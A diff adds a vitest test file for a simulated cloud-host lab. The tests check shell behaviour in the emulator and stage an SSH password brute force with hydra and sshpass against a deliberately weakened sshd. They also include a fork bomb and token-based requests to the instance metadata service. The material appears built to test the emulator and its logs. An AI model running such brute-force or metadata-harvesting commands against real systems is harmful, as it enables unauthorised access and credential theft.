@@ -1,0 +1,94 @@
+import { describe, expect, it } from 'vitest';
+import { laboratory } from '../../../test/hosts/laboratory.ts';
+
+const rows: [string, string, string][] = [
+  [
+    'a refused redirection leaves the rest of the script',
+    'echo a > /nodir/x; echo $?',
+    '0|1\n|bash: /nodir/x: No such file or directory\n',
+  ],
+  ['an assignment resets the status', 'set -e; [ -f q ] || x=1; false || rc=$?; echo $rc', '0|1\n|'],
+  ['background jobs are waited for', 'sleep 5 & wait $!; echo $?', '0|0\n|'],
+  ['a killed job has its signal as status', 'sleep 500 & kill -9 $!; wait $!; echo $?', '0|137\n|'],
+  ['timeout runs on the virtual clock', 'timeout 5 sleep 60; echo $?', '0|124\n|'],
+  ['eval and source go the same way', 'x="false; y=1"; eval "$x"; echo $?', '0|0\n|'],
+  ['programs are found under sbin too', '/usr/sbin/useradd bob && id -un bob', '0|bob\n|'],
+  ['a loop for ever is killed', 'while :; do :; done; echo no', '137||'],
+  ['a fork bomb ends', ':(){ :|:& };:; echo over', '0|over\n|'],
+  [
+    'a file beyond the limit is refused',
+    'dd if=/dev/zero of=/f bs=1M count=100; echo $?',
+    "0|1\n|dd: EFBIG: file too large, write '/f'\n",
+  ],
+  [
+    'nonsense keeps sshd from starting',
+    'echo "Nonsense yes" >> /etc/ssh/sshd_config; systemctl restart sshd 2>/dev/null; echo $?',
+    '0|1\n|',
+  ],
+  [
+    'cron is not there until it is installed',
+    'crontab -l; dnf install -y cronie >/dev/null; systemctl is-active crond',
+    '0|active\n|bash: crontab: command not found\n',
+  ],
+  [
+    'the metadata service wants a token',
+    'curl -s -o /dev/null -w %{http_code} http://169.254.169.254/latest/meta-data/',
+    '0|401|',
+  ],
+  [
+    'a token opens the metadata service',
+    'T=$(curl -s -X PUT -H "X-aws-ec2-metadata-token-ttl-seconds: 60" http://169.254.169.254/latest/api/token); curl -s -H "X-aws-ec2-metadata-token: $T" http://169.254.169.254/latest/meta-data/instance-id',
+    '0|i-server|',
+  ],
+];
+
+describe('a host', () => {
+  it.each(rows)('%s', async (_name, script, expected) => {
+    const lab = laboratory();
+    const host = lab.host('server');
+    host.boot();
+    await lab.pass(30_000);
+    expect(await lab.run(host, script)).toBe(expected);
+  });
+});
+
+describe('a brute force over ssh', () => {
+  const open = `#!/bin/bash
+dnf install -y rsyslog
+sed -i 's/^PasswordAuthentication no/PasswordAuthentication yes/' /etc/ssh/sshd_config
+systemctl restart sshd
+useradd alice && echo 'alice:summer' | chpasswd
+`;
+  const guess = `#!/bin/bash
+dnf install -y hydra sshpass
+printf 'admin\\nalice\\n' > /tmp/users; printf 'winter\\nsummer\\n' > /tmp/words
+hydra -L /tmp/users -P /tmp/words ssh://10.0.0.15 > /tmp/out 2>&1
+sshpass -p summer ssh -o StrictHostKeyChecking=no alice@10.0.0.15 'whoami; hostname -s' > /tmp/inside 2>&1
+`;
+  const story = async (server: string) => {
+    const lab = laboratory();
+    const [victim, attacker] = [lab.host('server', { userData: server }), lab.host('stranger', { userData: guess })];
+    victim.boot();
+    await lab.pass(60_000);
+    attacker.boot();
+    await lab.pass(600_000);
+    return { lab, victim, attacker };
+  };
+
+  it('succeeds by the right password, in log lines and flows', async () => {
+    const { lab, victim, attacker } = await story(open);
+    expect(attacker.disk.text('/tmp/inside')).toBe('alice\nip-10-0-0-15\n');
+    const log = victim.disk.text('/var/log/secure');
+    expect(log).toMatch(/sshd\[\d+\]: Invalid user admin from 10\.0\.1\.20 port \d+\n/);
+    expect(log).toMatch(/sshd\[\d+\]: Accepted password for alice from 10\.0\.1\.20 port \d+ ssh2\n/);
+    const knocks = lab.flows.filter((flow) => flow['dstport'] === 22 && flow['interface-id'] === 'eni-server');
+    expect(knocks).toHaveLength(5);
+  });
+
+  it('fails where another password is set, and where sshd takes none', async () => {
+    const other = await story(open.replace('summer', 'autumn'));
+    expect(other.attacker.disk.text('/tmp/inside')).toContain('Permission denied (publickey,password)');
+    const closed = await story(open.replace('systemctl restart sshd\n', ''));
+    expect(closed.attacker.disk.text('/tmp/out')).toContain('does not support password authentication');
+  });
+});
